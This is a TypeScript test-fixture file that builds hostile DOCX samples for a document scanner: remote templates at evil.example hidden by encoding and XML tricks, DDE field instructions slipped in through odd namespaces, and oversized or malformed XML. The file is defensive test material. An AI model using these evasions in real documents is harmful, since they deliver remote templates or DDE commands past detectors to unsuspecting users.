import { docxFile, relationships, wordDocument } from '../../../support/docx';
import { type Hostile, hostileFile } from './hostile';

const hostile = hostileFile('docx');

const remote = relationships(['attachedTemplate', 'https://evil.example/x.dotm', 'External']);
const rels = (xml: string | Buffer) => docxFile({ 'word/_rels/settings.xml.rels': xml });
const document = (xml: string | Buffer) => docxFile({ 'word/document.xml': xml });

const plain = remote.replace('<?xml version="1.0"?>', '');
const mark = '\ufeff';
const bigEndian = (text: string) => Buffer.from(text, 'utf16le').swap16();

/** A remote template, written so that a reader of patterns does not see it. */
const disguised: Hostile[] = [
  hostile('with a remote template in UTF-16', rels(Buffer.from(mark + remote, 'utf16le')), 'fetched from elsewhere'),
  hostile('… in UTF-16 without a mark', rels(Buffer.from(plain, 'utf16le')), 'fetched from elsewhere'),
  hostile('… in UTF-16 with its bytes the other way round', rels(bigEndian(mark + plain)), 'fetched from elsewhere'),
  hostile('… the other way round, without a mark', rels(bigEndian(plain)), 'fetched from elsewhere'),
  hostile('… in UTF-8 with a mark', rels(mark + remote), 'fetched from elsewhere'),
  hostile('… behind a ">" in an attribute', rels(remote.replace('<Relationship ', '<Relationship x=">" ')), 'fetched'),
  hostile('… under a prefix of another script', rels(prefixed('é')), 'fetched from elsewhere'),
  hostile('… under a long prefix', rels(prefixed('_'.repeat(300))), 'fetched from elsewhere'),
  hostile('… in single quotes', rels(remote.replaceAll('"', "'")), 'fetched from elsewhere'),
  hostile('… with line ends between attributes', rels(remote.replaceAll(' T', '\r\n\tT')), 'fetched from elsewhere'),
  hostile('… in references to letters', rels(remote.replace('https', '&#x68;&#116;tps')), 'fetched from elsewhere'),
  hostile(
    '… behind a comment like a tag',
    rels(remote.replace('<Rel', '<!-- <a x=" --><Rel')),
    'fetched from elsewhere',
  ),
  hostile('… as an element with content', rels(remote.replace('"/>', '"> </Relationship>')), 'fetched from elsewhere'),
];

function prefixed(prefix: string): string {
  return remote.replace('xmlns=', `xmlns:${prefix}=`).replaceAll(/<(\/?)Rel/g, `<$1${prefix}:Rel`);
}

const latin = (encoding: string) => wordDocument('').replace('?>', ` encoding="${encoding}"?>`);

const strict = 'http://purl.oclc.org/ooxml/wordprocessingml/main';

/** XML that Word would read otherwise than we do, or not at all. */
const odd: Hostile[] = [
  hostile('with a document type', document(`<!DOCTYPE x [<!ENTITY a "b">]>${plainDocument()}`), 'damaged'),
  hostile('with a document type of elsewhere', document(`<!DOCTYPE x SYSTEM "x.dtd">${plainDocument()}`), 'damaged'),
  hostile('with an unknown entity', document(wordDocument('&a;')), 'damaged'),
  ...['utf-7', 'windows-1252', 'utf-16', 'ebcdic-cp-us', 'x-user-defined'].map((name) =>
    hostile(`that says it is ${name}`, document(latin(name)), 'damaged'),
  ),
  hostile('in UTF-16 that says it is UTF-8', document(Buffer.from(mark + latin('utf-8'), 'utf16le')), 'damaged'),
  hostile(
    'in UTF-32',
    document(Buffer.from([...plainDocument()].map((letter) => `${letter}\0`).join(''), 'utf16le')),
    'damaged',
  ),
  hostile('of XML 1.1', document(wordDocument('').replace('1.0', '1.1')), 'damaged'),
  hostile(
    'with half a letter',
    document(Buffer.concat([Buffer.from(wordDocument('')), Buffer.from([0xc3])])),
    'damaged',
  ),
  hostile(
    'with letters that UTF-8 does not have',
    document(Buffer.from(wordDocument('<w:p>\xff</w:p>'), 'latin1')),
    'damaged',
  ),
  hostile('with an element that does not end', document(wordDocument('<w:p>')), 'damaged'),
  hostile('with two outermost elements', document(plainDocument().repeat(2)), 'damaged'),
  hostile('with an attribute twice', document(wordDocument('<w:p w:x="1" w:x="2"/>')), 'damaged'),
  hostile('with a prefix of nothing', document(wordDocument('<q:p/>')), 'damaged'),
  hostile('with a part of XML that is none', docxFile({ 'word/header1.xml': 'x' }), 'damaged'),
  hostile('with a kind given twice', docxFile({}, { XML: 'application/xml' }), 'damaged'),
  hostile('with two documents', docxFile({ '_rels/.rels': twoDocuments() }), 'damaged'),
  ...Object.entries({
    'a field': '<w:fldSimple s:instr="DDE cmd x"/>',
    'a field twice': '<w:fldSimple w:instr="PAGE" s:instr="DDE cmd x"/>',
    'a mark': '<w:r><w:fldChar s:fldCharType="begin"/></w:r>',
  }).map(([what, content]) =>
    hostile(
      `with ${what} in an attribute of the other dialect`,
      document(wordDocument(content.replace('s:', `xmlns:s="${strict}" s:`))),
      'damaged',
    ),
  ),
  // Some programs see no instruction, or no mark, and so another field.
  ...['<w:fldSimple instr="DDE cmd x"/>', '<w:fldSimple xmlns:y="x" y:instr="PAGE"/>'].map((content) =>
    hostile(`with ${content}`, document(wordDocument(content)), 'damaged'),
  ),
  ...['x:fldCharType', 'fldCharType'].map((name) =>
    hostile(
      `with a mark in ${name}`,
      document(wordDocument(`<w:p><w:r><w:fldChar xmlns:x="urn:x" ${name}="end"/></w:r></w:p>`)),
      'damaged',
    ),
  ),
  ...['Begin', ' begin ', 'BEGIN'].map((type) =>
    hostile(
      `with a mark called "${type}"`,
      document(wordDocument(`<w:p><w:r><w:fldChar w:fldCharType="${type}"/></w:r></w:p>`)),
      'damaged',
    ),
  ),
  hostile('with elements of both dialects', document(wordDocument(`<s:p xmlns:s="${strict}"/>`)), 'damaged'),
];

function plainDocument(): string {
  return wordDocument('').replace('<?xml version="1.0"?>', '');
}

function twoDocuments(): string {
  return relationships(['officeDocument', 'word/document.xml'], ['officeDocument', 'word/other.xml']);
}

const attributes = Array.from({ length: 300 }, (_, index) => `w:a${index}=""`).join(' ');

const excessive: Hostile[] = [
  hostile('of elements within elements', document(wordDocument('<w:p>'.repeat(200) + '</w:p>'.repeat(200))), 'damaged'),
  hostile('with an element of too many attributes', document(wordDocument(`<w:p ${attributes}/>`)), 'damaged'),
  hostile('with a comment of megabytes', document(wordDocument(`<!--${' -'.repeat(1_700_000)} -->`)), 'damaged'),
];

export const docxsInOddXml: Hostile[] = [...disguised, ...odd, ...excessive];
